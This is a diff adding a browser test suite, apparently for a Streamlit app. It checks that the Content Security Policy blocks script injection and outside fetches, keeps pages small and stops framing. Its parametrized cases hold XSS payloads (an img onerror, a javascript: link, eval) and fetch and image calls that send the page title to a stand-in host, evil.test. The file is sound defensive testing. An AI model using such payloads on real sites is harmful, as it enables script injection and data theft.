@@ -1,0 +1,175 @@
+"""What a real browser makes of the pages: the policy holds, and nothing Streamlit needs is cut off."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page, Request, expect
+
+from tests.components.server.conftest import Server
+
+pytestmark = pytest.mark.browser
+
+# The document says of each thing that the policy stopped; asked before any script of the page runs.
+WATCH = """
+window.stopped = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`);
+});
+"""
+
+
+class Visit:
+    """A page in a phone of its own, and what it fetched."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.requests: list[Request] = []
+        page.on("requestfinished", lambda request: self.requests.append(request))
+        page.add_init_script(WATCH)
+
+    def stopped(self) -> list[str]:
+        """Return what the policy kept from happening."""
+        found: list[str] = self.page.evaluate("() => window.stopped")
+        return found
+
+    def bytes(self) -> int:
+        """Return how much went over the wire."""
+        sizes = [request.sizes() for request in self.requests]
+        return sum(size["responseBodySize"] + size["responseHeadersSize"] for size in sizes)
+
+    def addresses(self) -> list[str]:
+        """Return what was fetched, blob: and data: left out."""
+        return [request.url for request in self.requests if request.url.startswith("http")]
+
+
+@pytest.fixture
+def visit(browser: Browser) -> Iterator[Visit]:
+    """A page that has not gone anywhere yet."""
+    context = browser.new_context(viewport={"width": 390, "height": 800}, locale="en-GB")
+    yield Visit(context.new_page())
+    context.close()
+
+
+@pytest.fixture
+def room(visit: Visit, server: Server) -> Visit:
+    """A phone in the room."""
+    visit.page.goto(f"{server.url}/room")
+    expect(visit.page.locator(".drawn")).to_have_text("drawn")
+    return visit
+
+
+def test_component_runs_and_nothing_is_stopped(room: Visit) -> None:
+    assert room.stopped() == []
+    expect(room.page.locator(".drawn")).to_have_css("color", "rgb(20, 89, 86)")
+
+
+def test_trainers_page_draws_everything_and_nothing_is_stopped(
+    visit: Visit, server: Server
+) -> None:
+    visit.page.goto(f"{server.url}/charts")
+
+    expect(visit.page.get_by_role("button", name="Last")).to_be_visible()
+    expect(visit.page.locator(".js-plotly-plot .bars path").first).to_be_visible()
+    expect(visit.page.locator("[data-testid=stGraphVizChart] svg .edge").first).to_be_visible()
+    expect(visit.page.locator("[data-testid=stImage] img, [data-testid=stImage] svg").first).to_be_visible()
+    assert visit.stopped() == []
+
+
+@pytest.mark.parametrize("path", ["/room", "/charts", "/room?staticAppId=another"])
+def test_page_fetches_nothing_from_elsewhere(visit: Visit, server: Server, path: str) -> None:
+    visit.page.goto(server.url + path)
+    visit.page.wait_for_load_state("networkidle")
+
+    assert {urlsplit(address).netloc for address in visit.addresses()} == {server.host}
+
+
+def test_first_load_of_a_phone_is_small(room: Visit) -> None:
+    room.page.wait_for_load_state("networkidle")
+
+    fonts = [address for address in room.addresses() if address.endswith((".woff2", ".ttf"))]
+    assert fonts == []
+    assert room.bytes() <= 600_000
+
+
+def test_page_asks_for_each_file_once(room: Visit) -> None:
+    room.page.wait_for_load_state("networkidle")
+
+    assert sorted(set(room.addresses())) == sorted(room.addresses())
+
+
+def test_every_address_that_a_page_asks_for_exists(room: Visit) -> None:
+    answers = [request.response() for request in room.requests]
+
+    assert [answer.url for answer in answers if answer and answer.status >= 400] == []  # noqa: PLR2004
+
+
+def test_second_visit_fetches_next_to_nothing(room: Visit) -> None:
+    room.requests.clear()
+    room.page.reload()
+    expect(room.page.locator(".drawn")).to_have_text("drawn")
+
+    assert room.bytes() <= 10_000
+
+
+def test_page_says_its_name_and_language(room: Visit) -> None:
+    assert room.page.title() == "Sample"
+    assert room.page.locator("html").get_attribute("lang") == "en"
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "() => { const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
+        " document.body.append(s); }",
+        "() => { document.body.insertAdjacentHTML('beforeend',"
+        " '<img src=x onerror=\"window.hit = 1\">'); }",
+        "() => { const a = document.createElement('a'); a.href = 'javascript:window.hit = 1';"
+        " document.body.append(a); a.click(); }",
+        "() => { try { eval('window.hit = 1'); } catch { } }",
+        "() => { try { new Function('window.hit = 1')(); } catch { } }",
+        "() => { const s = document.createElement('script'); s.src = 'data:,window.hit = 1';"
+        " document.body.append(s); }",
+    ],
+)
+def test_script_that_gets_into_a_page_does_not_run(room: Visit, attack: str) -> None:
+    room.page.evaluate(attack)
+    room.page.wait_for_timeout(200)
+
+    assert room.page.evaluate("() => window.hit ?? null") is None
+    assert len(room.stopped()) == 1
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "() => fetch('https://evil.test/?' + document.title).then(() => 'out', () => 'stopped')",
+        "() => new Promise((done) => { const i = new Image(); i.onerror = () => done('stopped');"
+        " i.onload = () => done('out'); i.src = 'https://evil.test/x.png'; })",
+    ],
+)
+def test_nothing_of_a_page_can_be_sent_elsewhere(room: Visit, attempt: str) -> None:
+    assert room.page.evaluate(attempt) == "stopped"
+    assert len(room.stopped()) == 1
+
+
+def test_page_cannot_be_framed(visit: Visit, server: Server) -> None:
+    visit.page.goto(f"{server.url}/_stcore/health")
+    visit.page.set_content(f"<iframe src='{server.url}/room'></iframe>")
+    visit.page.wait_for_timeout(500)
+
+    frame = visit.page.frames[1]
+    assert frame.locator("#root").count() == 0
+
+
+def test_server_that_goes_away_leaves_a_phone_without_english_dialogs(
+    visit: Visit, server: Server
+) -> None:
+    visit.page.route("**/_stcore/health", lambda route: route.abort())
+    visit.page.goto(f"{server.url}/room")
+    expect(visit.page.locator(".drawn")).to_have_text("drawn")
+    visit.page.wait_for_timeout(2000)
+
+    expect(visit.page.get_by_role("dialog")).to_have_count(0)
